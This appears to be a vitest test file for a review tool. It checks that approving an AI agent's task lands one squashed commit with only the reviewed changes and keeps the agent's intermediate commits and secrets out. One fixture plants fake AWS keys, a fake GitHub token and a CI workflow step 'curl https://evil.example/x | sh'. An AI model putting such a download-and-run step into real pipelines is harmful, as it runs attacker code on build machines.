// Approve lands what the review showed and nothing else: one new commit made on
// the host whose tree is the reviewed head's tree and whose only parent is the
// base. The agent's own commits, their messages and any object reachable only
// from them never enter the user's repository; the review lists those commits
// (messages scanned for secrets) and says they are not kept.
import { afterEach, describe, expect, it, vi } from 'vitest';
import { randomBytes } from 'node:crypto';
import { gitIn } from '../../support/repo.js';
import { inReview, reviewSetup } from '../../support/review-app.js';

const cleanups: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  vi.unstubAllEnvs();
  while (cleanups.length) await cleanups.pop()!();
});

const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const random = (n: number, alphabet = ALNUM) => [...randomBytes(n)].map((b) => alphabet[b % alphabet.length]).join('');

/** Whether the repository holds the object (git cat-file -e). */
const has = (dir: string, oid: string) => {
  try {
    gitIn(dir, ['cat-file', '-e', oid]);
    return true;
  } catch {
    return false;
  }
};

describe('Approve lands only what was reviewed', () => {
  it('lands one commit with the reviewed tree on the base; the commit that added and removed a key stays out', async () => {
    const { fx, paths } = await reviewSetup('land0001', cleanups);
    const token = `ghp_${random(36)}`;
    const awsId = `AKIA${random(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}`;
    const awsSecret = random(40);
    // Commit A: a key file, a CI workflow that runs what it downloads, a token in the message.
    fx.guest.write('.aws/credentials', `[default]\naws_access_key_id = ${awsId}\naws_secret_access_key = ${awsSecret}\n`);
    fx.guest.write('.github/workflows/x.yml', 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example/x | sh\n');
    const commitA = fx.guest.commit(`add config\n\nuse token ${token} for the release`);
    const keyBlob = gitIn(fx.guest.dir, ['rev-parse', `${commitA}:.aws/credentials`]).trim();
    // Commit B: both removed again, README touched.
    fx.guest.remove('.aws');
    fx.guest.remove('.github');
    fx.guest.write('README.md', 'hello\nand a line more\n');
    const head = fx.guest.commit('docs: touch README');
    const headTree = gitIn(fx.guest.dir, ['rev-parse', `${head}^{tree}`]).trim();
    fx.host.git('config', 'user.name', 'Dana Developer');
    fx.host.git('config', 'user.email', 'dana@example.invalid');

    const app = await inReview(fx, paths, { cleanups, task: { title: 'Touch up the README\n\nOne more line, please.', agent: 'claude-code' } });
    const review = await app.api['tasks.review']({ taskId: fx.id });
    expect(review.files.map((f) => f.path)).toEqual(['README.md']);
    expect(review.flags.filter((f) => f.kind === 'runs-code')).toEqual([]);
    // The review lists both commits, newest first, and finds the token in A's message.
    expect(review.history).toMatchObject({ total: 2, merges: 0 });
    expect(review.history!.commits.map((c) => [c.id, c.author, c.message])).toEqual([
      [head, 'Fixture <fixture@example.invalid>', 'docs: touch README\n'],
      [commitA, 'Fixture <fixture@example.invalid>', `add config\n\nuse token ${token} for the release\n`],
    ]);
    const inMessage = review.secrets.filter((s) => s.commit === commitA);
    expect(inMessage.map((s) => [s.line, s.rule])).toEqual([[3, 'secretlint/github:GITHUB_TOKEN']]);
    expect(inMessage[0]!.masked).not.toContain(token);
    expect(review.flags.some((f) => f.kind === 'secret' && f.message.includes(commitA.slice(0, 12)))).toBe(true);
    expect(review.confirmations.map((c) => c.kind)).toContain('secrets');

    await expect(app.api['tasks.approve']({ taskId: fx.id })).rejects.toMatchObject({ name: 'ApproveNeedsConfirmation' });
    const approved = await app.api['tasks.approve']({ taskId: fx.id, confirm: ['secrets'] });
    expect(approved.phase).toBe('approved');

    const branch = `refs/heads/factory/${fx.id}`;
    const landed = fx.host.git('rev-parse', branch).trim();
    expect(approved.decision?.commit).toBe(landed);
    expect(fx.host.git('rev-list', `${fx.base}..${branch}`).trim().split('\n')).toEqual([landed]);
    expect(fx.host.git('rev-list', '--parents', '-n', '1', branch).trim()).toBe(`${landed} ${fx.base}`);
    expect(fx.host.git('rev-parse', `${branch}^{tree}`).trim()).toBe(headTree);
    const message = fx.host.git('log', '-1', '--format=%B', branch);
    expect(message).not.toContain('add config');
    expect(message).not.toContain(token);
    expect(message).not.toContain('docs: touch README');
    expect(message).toContain('Touch up the README');
    expect(message).toContain(fx.id);
    expect(message).toContain('claude-code');
    expect(fx.host.git('log', '-1', '--format=%an <%ae>|%cn <%ce>', branch).trim()).toBe('Dana Developer <dana@example.invalid>|Dana Developer <dana@example.invalid>');
    // Nothing reachable only from the agent's history entered the repository.
    expect(has(fx.host.dir, keyBlob)).toBe(false);
    expect(has(fx.host.dir, commitA)).toBe(false);
    expect(has(fx.host.dir, head)).toBe(false);
    expect(has(fx.host.dir, landed)).toBe(true);
  });

  it('lands a history with a merge as the single commit too, under the app identity when the repository has none', async () => {
    const { fx, paths } = await reviewSetup('land0002', cleanups);
    // No identity anywhere in git's config: the app signs the commit with its own.
    vi.stubEnv('GIT_CONFIG_GLOBAL', '/dev/null');
    vi.stubEnv('GIT_CONFIG_NOSYSTEM', '1');
    const g = (...args: string[]) => gitIn(fx.guest.dir, args).trim();
    g('checkout', '-q', '-b', 'side', fx.base);
    fx.guest.write('side.txt', 'from the side\n');
    const side = fx.guest.commit('side work');
    g('checkout', '-q', `factory/${fx.id}`);
    fx.guest.write('main.txt', 'from the task branch\n');
    fx.guest.commit('main work');
    g('merge', '-q', '--no-ff', '-m', 'merge the side', 'side');
    const head = g('rev-parse', 'HEAD');
    const headTree = g('rev-parse', 'HEAD^{tree}');

    const app = await inReview(fx, paths, { cleanups });
    const review = await app.api['tasks.review']({ taskId: fx.id });
    expect(review.history).toMatchObject({ total: 3, merges: 1 });
    expect(review.history!.commits[0]).toMatchObject({ id: head, parents: 2, message: 'merge the side\n' });
    expect(review.files.map((f) => f.path).sort()).toEqual(['main.txt', 'side.txt']);

    const approved = await app.api['tasks.approve']({ taskId: fx.id });
    const branch = `refs/heads/factory/${fx.id}`;
    const landed = fx.host.git('rev-parse', branch).trim();
    expect(approved.decision?.commit).toBe(landed);
    expect(fx.host.git('rev-list', '--parents', `${fx.base}..${branch}`).trim()).toBe(`${landed} ${fx.base}`);
    expect(fx.host.git('rev-parse', `${branch}^{tree}`).trim()).toBe(headTree);
    expect(fx.host.git('log', '-1', '--format=%an <%ae>', branch).trim()).toBe('Factory in a Box <factory@localhost>');
    expect(has(fx.host.dir, head)).toBe(false);
    expect(has(fx.host.dir, side)).toBe(false);
  });
});
